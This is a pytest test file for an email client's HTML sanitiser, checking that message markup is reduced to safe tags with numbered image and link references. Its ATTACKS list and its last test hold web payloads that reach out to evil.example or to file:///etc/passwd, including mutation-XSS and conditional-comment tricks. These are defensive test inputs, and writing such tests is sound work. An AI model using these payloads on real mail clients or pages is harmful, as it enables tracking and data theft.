"""What comes out is markup of our own: every address of a stranger's is a number, and nothing that loads or acts is left."""

import re

import pytest

from securemail_desktop.message.display import limits
from securemail_desktop.message.display.html import show_html
from securemail_desktop.message.display.shown import Canvas, Shown

TAGS = re.compile(r"</?([a-z0-9]+)")
OURS = {"p", "span", "a", "br", "img", "hr", "table", "tr", "td", "ul", "ol", "li"}


def shown(*bodies: str, **canvas: object) -> Shown:
    return show_html(bodies, "", Canvas(**canvas), frozenset({"logo@clinic.example"}))  # type: ignore[arg-type]


ATTACKS = [
    '<img src="file:///etc/passwd">',
    "<img src=//evil.example/x>",
    r"<img src=\\evil.example\x>",
    "<img src=/etc/passwd><img src=passwd><img src='qrc:/x'><img src=http://evil.example/x>",
    "<img srcset='http://evil.example/1x 1x' src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<table background='http://evil.example/x'><tr><td style='background:url(http://evil.example/y)'>x",
    r"<p style='background:u\72l(file:///etc/passwd)'>x",
    "<p style='list-style-image:url(//evil.example)'>x</p><style>@import '//evil.example';p{background:url(//evil.example)}</style>",
    "<base href='http://evil.example/'><link rel=stylesheet href='file:///etc/passwd'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe src='file:///etc/passwd'></iframe><object data='//evil.example'></object><embed src='//evil.example'>",
    "<form action='//evil.example'><input type=image src='//evil.example'><button formaction='//evil.example'>x</button></form>",
    "<svg><image href='file:///etc/passwd'/><use xlink:href='//evil.example'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src='file:///etc/passwd'&gt;\">",
    "<video poster='//evil.example'><source src='//evil.example'></video><audio src='//evil.example'>",
    "<!--[if mso]><img src='file:///etc/passwd'><![endif]--><![CDATA[<img src='file:///etc/passwd'>]]>",
    "<!--<!-- --><img src='file:///etc/passwd'>-->",
    "<a href='file:///etc/passwd' ping='//evil.example'>x</a>",
    "<img src='image:0'><a href='link:0'>x</a>",
    "&lt;img src='file:///etc/passwd'&gt; <noscript><img src='file:///etc/passwd'></noscript>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_a_stranger_is_in_an_attribute(attack: str) -> None:
    markup = shown(attack, attack).markup
    assert set(TAGS.findall(markup)) <= OURS
    inside = " ".join(re.findall(r"<([^>]*)>", markup))
    assert not re.search(r"file|passwd|evil|url|http|//|\\|svg|on\w+=", inside)
    assert all(re.fullmatch(r"image:\d+|link:\d+", name) for name in re.findall(r'(?:src|href)="([^"]*)"', markup))


def test_pictures_of_the_message_are_numbered_and_those_of_the_internet_counted() -> None:
    found = shown('<img src="cid:logo@clinic.example" alt="Logo"><img src="http://evil.example/t.gif"><img src="cid:other" alt="Ward">')
    assert [picture.content_id for picture in found.pictures] == ["logo@clinic.example"]
    assert found.remote == 2
    assert '<img src="image:0"/>' in found.markup
    assert "[Ward]" in found.markup


@pytest.mark.slow
@pytest.mark.parametrize(
    ("html", "reason"),
    [
        ("<table><tr><td>" * 13 + "x", limits.TOO_DEEP),
        ("<table><tr><td colspan=10000000>x", limits.TOO_MANY_CELLS),
        ("<table><tr><td colspan='0101'>x", limits.TOO_MANY_CELLS),
        ("<table><tr>" + "<td>x" * 5_001, limits.TOO_MANY_CELLS),
        ("<table><tr>" + "<td colspan=100>x" * 51, limits.TOO_MANY_CELLS),
        ("<p>x</p>" * 62_501, limits.TOO_LARGE),
        ("<div>" * 251 + "x", limits.TOO_DEEP),
        ("<table><tr><td>a<td>" * 11 + "<table>" + "<tr><td>x<td>y" * 200, limits.TOO_SLOW),
    ],
)
def test_what_would_freeze_the_window_is_shown_as_text_with_the_reason(html: str, reason: str) -> None:
    found = shown(html)
    assert found.refusal == reason
    assert "<table" not in found.markup
    assert "x" in found.markup


def test_a_part_never_takes_in_the_next() -> None:
    found = shown('<img src="http://evil.example/?', "secret diagnosis", '"><p>end</p>')
    assert "secret diagnosis" in found.markup
    assert found.remote <= 1
    assert found.markup.count("<hr/>") == 2
